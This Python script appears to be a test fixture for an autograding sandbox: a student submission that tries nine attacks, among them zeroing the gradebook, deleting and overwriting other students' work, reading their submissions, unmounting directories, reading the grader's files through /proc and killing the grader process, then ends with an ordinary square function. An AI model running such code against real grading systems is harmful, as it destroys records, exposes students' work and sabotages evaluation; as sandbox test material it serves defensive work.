import glob
import os
import socket
import sqlite3
import subprocess

COURSE = "COURSE_ROOT"
attempts = {}


def attempt(name, action):
    try:
        action()
        attempts[name] = "DONE"
    except BaseException as exc:  # noqa: BLE001 - report every refusal
        attempts[name] = type(exc).__name__


def candidate_roots():
    here = os.getcwd()
    return [COURSE] + [os.path.abspath(os.path.join(here, *[".."] * k)) for k in range(1, 6)]


def wreck_gradebook():
    for root in candidate_roots():
        path = os.path.join(root, "gradebook.db")
        if os.path.exists(path):
            con = sqlite3.connect(path)
            con.execute("UPDATE grade SET auto_score = 0, manual_score = 0")
            con.execute("DELETE FROM submitted_notebook")
            con.commit()
            return
    raise FileNotFoundError("gradebook.db")


def overwrite_gradebook_file():
    with open(os.path.join(COURSE, "gradebook.db"), "wb") as fh:
        fh.write(b"gone")


def append_to_solutions():
    found = glob.glob(os.path.join(COURSE, "solutions", "*", "*.ipynb"))
    if not found:
        raise FileNotFoundError("solutions")
    for path in found:
        with open(path, "a") as fh:
            fh.write("tampered")


def read_other_submissions():
    found = [p for p in glob.glob(os.path.join(COURSE, "submitted", "*", "*", "*.ipynb")) if "/mallory/" not in p]
    if not found:
        raise FileNotFoundError("submitted")
    for path in found:
        print(open(path).read())


def overwrite_others_autograded():
    found = glob.glob(os.path.join(COURSE, "autograded", "*", "*", "*.ipynb"))
    if not found:
        raise FileNotFoundError("autograded")
    for path in found:
        with open(path, "w") as fh:
            fh.write("{}")


def reach_network():
    socket.create_connection(("127.0.0.1", int("NET_PORT")), timeout=2).close()  # the test listens there


def unmount_the_cover():
    subprocess.run(["umount", "-l", "/tmp"], check=True, capture_output=True)
    subprocess.run(["umount", "-l", COURSE], check=True, capture_output=True)


def peek_through_proc():
    for pid in filter(str.isdigit, os.listdir("/proc")):
        for route in (f"/proc/{pid}/cwd/gradebook.db", f"/proc/{pid}/root{COURSE}/gradebook.db"):
            try:
                with open(route, "rb") as fh:
                    fh.read(16)
                return
            except OSError:
                pass
    raise FileNotFoundError("no grader process reachable through /proc")


def signal_the_grader():
    os.kill(os.getppid(), 9)


for name, action in [("wreck_gradebook", wreck_gradebook), ("overwrite_gradebook_file", overwrite_gradebook_file),
                     ("append_to_solutions", append_to_solutions), ("read_other_submissions", read_other_submissions),
                     ("overwrite_others_autograded", overwrite_others_autograded), ("reach_network", reach_network),
                     ("unmount_the_cover", unmount_the_cover), ("peek_through_proc", peek_through_proc),
                     ("signal_the_grader", signal_the_grader)]:
    attempt(name, action)
print("ATTEMPTS", attempts)


def square(x):
    return x * x
